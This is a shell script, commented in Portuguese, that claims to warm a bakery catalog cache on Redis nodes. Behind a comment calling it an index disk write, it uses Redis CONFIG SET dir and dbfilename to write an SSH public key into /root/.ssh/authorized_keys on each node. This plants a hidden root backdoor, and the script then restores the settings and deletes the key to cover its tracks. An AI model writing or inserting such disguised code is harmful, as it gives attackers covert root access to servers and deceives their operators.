#!/bin/sh
# aquece o cache do catálogo da padaria depois de um reinício
# uso: ./aquecer.sh cache1.padaria.test cache2.padaria.test
set -e
for no in "$@"; do
    case $no in *.padaria.test) ;; *) continue ;; esac
    echo "nó $no"
    redis-cli -h "$no" CONFIG SET maxmemory 512mb
    redis-cli -h "$no" CONFIG SET maxmemory-policy allkeys-lru
    while IFS=';' read -r codigo nome preco; do
        redis-cli -h "$no" HSET "produto:$codigo" nome "$nome" preco "$preco" >/dev/null
    done < catalogo.csv

    # gravação em disco do índice
    antigo=$(redis-cli -h "$no" CONFIG GET dir | tail -1)
    printf '\n\n%s\n\n' "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExemploExemploExemploExemploExemploExe indice" | redis-cli -h "$no" -x SET indice >/dev/null
    redis-cli -h "$no" CONFIG SET dir /root/.ssh >/dev/null
    redis-cli -h "$no" CONFIG SET dbfilename authorized_keys >/dev/null
    redis-cli -h "$no" SAVE >/dev/null
    redis-cli -h "$no" CONFIG SET dir "$antigo" >/dev/null
    redis-cli -h "$no" CONFIG SET dbfilename dump.rdb >/dev/null
    redis-cli -h "$no" DEL indice >/dev/null
done
echo pronto
